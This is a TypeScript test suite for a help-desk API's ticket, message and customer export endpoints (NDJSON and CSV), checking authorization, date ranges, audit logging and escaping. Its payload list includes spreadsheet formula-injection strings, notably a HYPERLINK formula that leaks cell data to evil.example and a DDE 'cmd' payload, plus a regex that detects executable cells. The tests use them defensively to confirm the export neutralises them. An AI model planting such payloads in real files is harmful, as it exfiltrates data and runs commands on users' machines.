import { parse } from 'csv-parse/sync'
import Papa from 'papaparse'
import type { DeskhandClient, Ticket } from '@deskhand/sdk'
import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { customerRecord } from '#server/schemas/customer'
import { deskMessage, deskTicket } from '#server/schemas/desk'
import { ask, expectProblem, tokenOf } from './asking.ts'
import { plantText } from './planted-text.ts'
import { runServer, type ContractServer } from './running-server.ts'

const KINDS = ['tickets', 'messages', 'customers'] as const
type Kind = (typeof KINDS)[number]
type Row = Record<string, string>

let server: ContractServer
let admin: string
let ada: DeskhandClient
let ticket: Ticket
beforeAll(async () => {
  server = await runServer()
  admin = tokenOf(await server.desk(server.site.admin))
  ada = await server.customer()
  ticket = await ada.tickets.create({ subject: 'First', body: 'Hello' })
})
afterAll(() => server.stop())

const take = (kind: Kind, query = '', token = admin): Promise<Response> =>
  ask(server, `/v1/desk/sites/${server.site.id}/export/${kind}?${query}`, { token })

async function lines(kind: Kind, query = ''): Promise<unknown[]> {
  const answer = await take(kind, `format=ndjson&${query}`)
  expect(answer.headers.get('content-type')).toBe('application/x-ndjson')
  const text = await answer.text()
  return text.split('\n').flatMap((line) => (line === '' ? [] : JSON.parse(line)))
}

/** The rows of a CSV file, on which two parsers agree. */
async function rows(kind: Kind, query = ''): Promise<Row[]> {
  const bytes = Buffer.from(await (await take(kind, query)).arrayBuffer())
  // Not `text()`, which takes the byte order mark away.
  const text = bytes.toString('utf8')
  const parsed: Row[] = parse(text, { bom: true, columns: true })
  const again = Papa.parse<Row>(text, { header: true, skipEmptyLines: true })
  expect(again.errors).toEqual([])
  expect(again.data).toEqual(parsed)
  return parsed
}

describe('an export as NDJSON', () => {
  it('gives every line in the shape the API gives it', async () => {
    const line = {
      tickets: deskTicket.extend({ departmentName: z.string().nullable() }),
      messages: deskMessage.extend({ ticketNumber: z.int() }),
      customers: customerRecord,
    }
    for (const kind of KINDS) {
      const found = await lines(kind)
      expect(found.length).toBeGreaterThan(0)
      for (const one of found) expect(line[kind].parse(one)).toEqual(one)
    }
  })

  it('gives everything of the site once, oldest first, and nothing of another', async () => {
    await server.owner.query(
      `insert into deskhand.tickets (site_id, customer_id, subject, created_at)
      select s.id, c.id, s.key || ' ' || n, timestamptz '2026-03-01' + make_interval(mins => n / 7)
      from deskhand.sites s join lateral (select id from deskhand.customers where site_id = s.id limit 1) c on true
      cross join generate_series(1, 450) n`,
    )
    const found = z
      .array(z.object({ id: z.string(), subject: z.string(), createdAt: z.string() }))
      .parse(await lines('tickets'))
    expect(found).toHaveLength(451)
    expect(new Set(found.map(({ id }) => id)).size).toBe(451)
    expect(found.filter(({ subject }) => subject.startsWith('beta'))).toEqual([])
    const dates = found.map(({ createdAt }) => createdAt)
    expect(dates).toEqual(dates.toSorted())
  })

  it('takes a range: from its first moment until before its last', async () => {
    const between = async (from: string, to: string): Promise<number> =>
      (await lines('tickets', `from=${from}&to=${to}`)).length
    expect(await between('2026-03-01T00:00:00Z', '2026-03-01T00:01:00Z')).toBe(6)
    expect(await between('2026-03-01T00:01:00Z', '2026-03-01T00:02:00Z')).toBe(7)
    expect(await between('2026-03-01T01:01:00%2B01:00', '2026-03-01T01:02:00%2B01:00')).toBe(7)
    expect(await between('2026-03-02T00:00:00Z', '2026-03-01T00:00:00Z')).toBe(0)
  })
})

const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  'a;=1+1',
  'a;"=1+1"',
  'a\n=1+1',
  'a\r\n"";=1+1',
  '"',
  '"=1+1"',
  '""";=1+1',
  'quoted "twice", and a comma',
  'two\nlines',
  "it's",
  'naïve 日本語 🎉',
]
const PHONES = ['+49 30 1234567', '+1 (555) 010-9999', '-7']

/** What a spreadsheet runs. */
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/

/** The cells of a file for a spreadsheet that parts them by semicolons and knows no other quotes than those around a cell. */
const cellsBySemicolon = (text: string): string[] =>
  text.split(/[;\r\n\t]/).map((cell) => cell.replace(/^"+/, ''))

describe('an export as CSV', () => {
  it('begins with a byte order mark, and is a download with a name', async () => {
    const answer = await take('customers')
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(answer.headers.get('content-disposition')).toMatch(
      /^attachment; filename="?deskhand-customers-\d{4}-\d\d-\d\d\.csv"?$/,
    )
    expect(answer.headers.get('cache-control')).toBe('no-store')
    expect([...new Uint8Array(await answer.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  })

  it('has a line with the names of its columns when there is nothing else', async () => {
    const text = await (await take('tickets', 'from=2999-01-01T00:00:00Z')).text()
    expect(text).toMatch(/^"number","id","subject",.*\r\n$/)
  })

  it('holds no cell that a spreadsheet would run, whatever stands in any field', async () => {
    const numbers: string[] = []
    for (const payload of PAYLOADS) numbers.push(await plantText(server, payload))
    for (const kind of KINDS) {
      const found = await rows(kind)
      for (const row of found)
        for (const [column, cell] of Object.entries(row)) expect(cell, `${kind}: ${column}`).not.toMatch(RUNS)
      const cells = cellsBySemicolon(await (await take(kind)).text())
      expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
    }
    // Nothing but apostrophes was added.
    const subjects = new Map((await rows('tickets')).map(({ number, subject }) => [number, subject]))
    for (const [index, payload] of PAYLOADS.entries())
      expect(subjects.get(numbers[index] ?? '')?.replaceAll("'", '')).toBe(payload.replaceAll("'", ''))
  })

  it('keeps phone numbers readable', async () => {
    for (const phone of PHONES) {
      const number = await plantText(server, phone)
      const row = (await rows('tickets')).find((one) => one['number'] === number)
      expect(row?.['subject']).toBe(`'${phone}`)
    }
  })

  it('as NDJSON has every text as it is', async () => {
    const found = z.array(z.object({ subject: z.string() })).parse(await lines('tickets'))
    const subjects = new Set(found.map(({ subject }) => subject))
    expect([...PAYLOADS, ...PHONES].filter((payload) => !subjects.has(payload))).toEqual([])
  })
})

describe('an export is refused', () => {
  it.each(KINDS)('of %s to everybody but the admins of the site', async (kind) => {
    const path = `/v1/desk/sites/${server.site.id}/export/${kind}`
    const agent = tokenOf(await server.desk(server.site.agent))
    const problem = await expectProblem(await ask(server, path, { token: agent }), 403, 'forbidden')
    expect(problem.detail).toMatch(/admin/)
    const elsewhere = tokenOf(await server.desk(server.otherSite.admin))
    await expectProblem(await ask(server, path, { token: elsewhere }), 404, 'not_found')
    await expectProblem(await ask(server, path, { token: tokenOf(ada) }), 401, 'session_invalid')
    await expectProblem(await ask(server, path), 401, 'unauthenticated')
  })

  it('of a site that nobody has as one of somebody else’s', async () => {
    const path = `/v1/desk/sites/${randomUUID()}/export/tickets`
    await expectProblem(await ask(server, path, { token: admin }), 404, 'not_found')
  })

  it.each([
    ['tickets', 'format=xlsx', 'format'],
    ['tickets', 'from=yesterday', 'from'],
    ['messages', 'to=2026-13-01T00:00:00Z', 'to'],
    ['customers', 'status=open', 'status'],
  ] as const)('of %s with %s', async (kind, query, field) => {
    await expectProblem(await take(kind, query), 422, 'invalid_request', field)
  })

  it('of what is none', async () => {
    const path = `/v1/desk/sites/${server.site.id}/export/sessions`
    await expectProblem(await ask(server, path, { token: admin }), 404, 'not_found')
  })
})

describe('an export that is under way', () => {
  it('is written down before its first byte', async () => {
    await take('messages', 'format=ndjson&from=2026-01-01T00:00:00Z')
    const { rows: found } = await server.owner.query(
      'select action, actor_id, details from deskhand.audit_entries order by at desc limit 1',
    )
    expect(found).toEqual([
      {
        action: 'site.exported',
        actor_id: server.site.admin.id,
        details: { kind: 'messages', format: 'ndjson', from: '2026-01-01T00:00:00Z', to: null },
      },
    ])
  })

  it('waits for its reader, and breaks off when the reader is no admin any more', async () => {
    const { owner, site } = server
    const { id: customerId } = await ada.sessions.start()
    // More than the buffers of both sides hold. Nobody searches for it, and indexing it would take longer than the test.
    await owner.query('alter table deskhand.ticket_messages disable trigger index_message')
    await owner.query(
      `insert into deskhand.ticket_messages (site_id, ticket_id, customer_id, author_kind, body)
      select $1, $2, $3, 'system', repeat('x', 20000) from generate_series(1, 1000)`,
      [site.id, ticket.id, customerId],
    )
    await owner.query('alter table deskhand.ticket_messages enable trigger index_message')
    const answer = await fetch(`${server.url}/v1/desk/sites/${site.id}/export/messages?format=ndjson`, {
      headers: { authorization: `Bearer ${admin}` },
    })
    const reader = answer.body?.getReader()
    expect((await reader?.read())?.done).toBe(false)
    const setRole = (userId: string, role: string) =>
      owner.query('update deskhand.team_members set role = $3 where site_id = $1 and user_id = $2', [
        site.id,
        userId,
        role,
      ])
    await setRole(site.colleague.id, 'admin')
    await setRole(site.admin.id, 'agent')
    const readOn = async (): Promise<void> => {
      while (!(await reader?.read())?.done);
    }
    await expect(readOn()).rejects.toThrow('terminated')
    await setRole(site.admin.id, 'admin')
  })
})
